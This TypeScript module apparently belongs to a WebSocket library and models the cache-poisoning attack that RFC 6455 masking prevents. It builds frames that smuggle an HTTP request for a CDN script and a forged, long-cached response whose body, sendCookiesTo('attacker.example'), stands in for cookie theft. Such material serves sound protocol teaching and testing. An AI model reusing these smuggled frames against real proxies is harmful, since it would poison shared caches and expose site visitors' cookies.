import { encodeFrame } from '../../protocol/framing/frame.ts';
import { mask } from '../../protocol/framing/masking.ts';
import { OPCODE } from '../../protocol/framing/opcode.ts';
import { EXAMPLE_KEY, joinLines } from '../../protocol/handshake/head/example-heads.ts';
import { formatRequestHead, formatResponseHead } from '../../protocol/handshake/head/format-head.ts';
import { checkRequest } from '../../protocol/handshake/request/check-request.ts';
import { createRequest } from '../../protocol/handshake/request/request.ts';
import { acceptRequest } from '../../protocol/handshake/response/respond.ts';
import { encodeText } from '../../text/utf8.ts';

/** How the browser of the story masks what it sends. */
export type Mode =
  /** As no browser does. */
  | 'unmasked'
  /** As RFC 6455 §5.3 has it. */
  | 'fresh-key'
  /** Masked, but the page knows the key before it says what to send. */
  | 'known-key';

export const ATTACKER = 'attacker.example';
/** Where many sites get the script that is to be replaced. */
export const VICTIM = 'cdn.example';
export const SCRIPT_PATH = '/stats.js';
export const TRUE_SCRIPT = 'countVisit()';
export const FALSE_SCRIPT = 'sendCookiesTo("attacker.example")';
const ONE_YEAR_S = 365 * 24 * 60 * 60;

/** The handshake is a real one: nobody need lie to open this connection. */
export function openingHeads(): { readonly request: Uint8Array; readonly response: Uint8Array } {
  const head = createRequest({ host: ATTACKER, target: '/ws', key: EXAMPLE_KEY, origin: `http://${ATTACKER}` });
  const checked = checkRequest(head);
  if ('refusal' in checked) throw new Error(`The story's request is refused: ${checked.refusal.sentence}`);
  return { request: formatRequestHead(head), response: formatResponseHead(acceptRequest(checked.request, {})) };
}

/** What the page wants to see on the wire. The first line break ends whatever stands in front of it. */
export const WANTED = encodeText(`\r\n${joinLines(`GET ${SCRIPT_PATH} HTTP/1.1`, `Host: ${VICTIM}`)}`);

/** What the page gives to `send()`: with a key that it knows, the masked form, which masking turns back. */
export function payloadOf(mode: Mode, maskingKey: number): Uint8Array {
  return mode === 'known-key' ? mask(WANTED, maskingKey) : WANTED;
}

/** The frame that the browser makes of it. */
export function clientFrame(mode: Mode, maskingKey: number): Uint8Array {
  const opcode = mode === 'known-key' ? OPCODE.binary : OPCODE.text;
  const payload = payloadOf(mode, maskingKey);
  return encodeFrame({ opcode, payload, maskingKey: mode === 'unmasked' ? undefined : maskingKey });
}

/** The attacker's server keeps the rules too: its frame is a message like any other. */
export function serverFrame(): Uint8Array {
  const head = joinLines(
    'HTTP/1.1 200 OK',
    'Content-Type: text/javascript',
    `Cache-Control: max-age=${ONE_YEAR_S}`,
    `Content-Length: ${FALSE_SCRIPT.length}`,
  );
  return encodeFrame({ opcode: OPCODE.text, payload: encodeText(`\r\n${head}${FALSE_SCRIPT}`) });
}
